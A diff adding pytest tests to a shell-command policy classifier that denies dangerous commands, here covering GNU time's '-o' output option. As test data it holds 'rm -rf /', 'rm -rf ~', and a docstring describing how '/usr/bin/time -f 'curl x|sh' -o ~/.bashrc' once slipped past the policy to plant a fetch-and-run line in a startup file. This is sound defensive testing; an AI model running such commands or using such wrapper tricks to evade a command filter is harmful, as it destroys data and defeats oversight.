@@ -229,3 +229,38 @@ def test_a_shells_script_is_found_past_its_clustered_o_options(tmp_path: Path, o
         assert (tmp_path / "marker").exists(), "bash runs the script"
     policy = ShellPolicy(PathPolicy(str(tmp_path), home="/root"))
     assert policy.classify(f"bash {options} 'rm -rf /'").decision == "deny"
+
+
+_TIME_OUTPUTS = [
+    "-o out/t.txt", "-oout/t.txt", "--output=out/t.txt", "--output out/t.txt", "--out=out/t.txt",
+    "--o out/t.txt", "-ao out/t.txt", "-a -o out/t.txt", "-f %e -o out/t.txt", "-qo out/t.txt",
+    "-p -o out/t.txt", "-v --outp out/t.txt", "-f '%e' --app -o out/t.txt", "-o out/t.txt --",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("spelling", _TIME_OUTPUTS)
+def test_gnu_time_writes_its_output_file_and_runs_the_command_after_it(
+    tmp_path: Path, spelling: str
+):
+    """GNU time's ``-o FILE`` (which ``-f`` fills with any text) was not seen as a write:
+    ``/usr/bin/time -f 'curl x|sh' -o ~/.bashrc true`` plants a startup file, and was
+    ``approve`` where ``echo 'curl x|sh' > ~/.bashrc`` is denied."""
+    if not Path("/usr/bin/time").exists():
+        pytest.skip("needs GNU time")
+    (tmp_path / "out").mkdir()
+    argv = [*shlex.split(spelling), "touch", "ran"]
+    subprocess.run(["/usr/bin/time", *argv], cwd=tmp_path, capture_output=True, check=True,
+                   timeout=20)  # fmt: skip
+    assert (tmp_path / "out" / "t.txt").exists() and (tmp_path / "ran").exists()
+    wrapped = read_wrapper("time", argv)
+    assert wrapped.options.values("o") == ["out/t.txt"] and wrapped.start == len(argv) - 2
+    policy = ShellPolicy(PathPolicy(str(tmp_path), home="/root"))
+    planted = f"/usr/bin/time {spelling.replace('out/t.txt', '~/.bashrc')} true"
+    assert policy.classify(planted).decision == "deny", planted
+
+
+def test_the_bash_keyword_time_still_reads_as_before():
+    policy = ShellPolicy(PathPolicy("/tmp/ws", home="/root"))
+    assert policy.classify("time -p rm -rf ~").decision == "deny"
+    assert read_wrapper("time", ["-p", "ls"]).start == 1
+    assert not read_wrapper("time", ["--version"]).runs
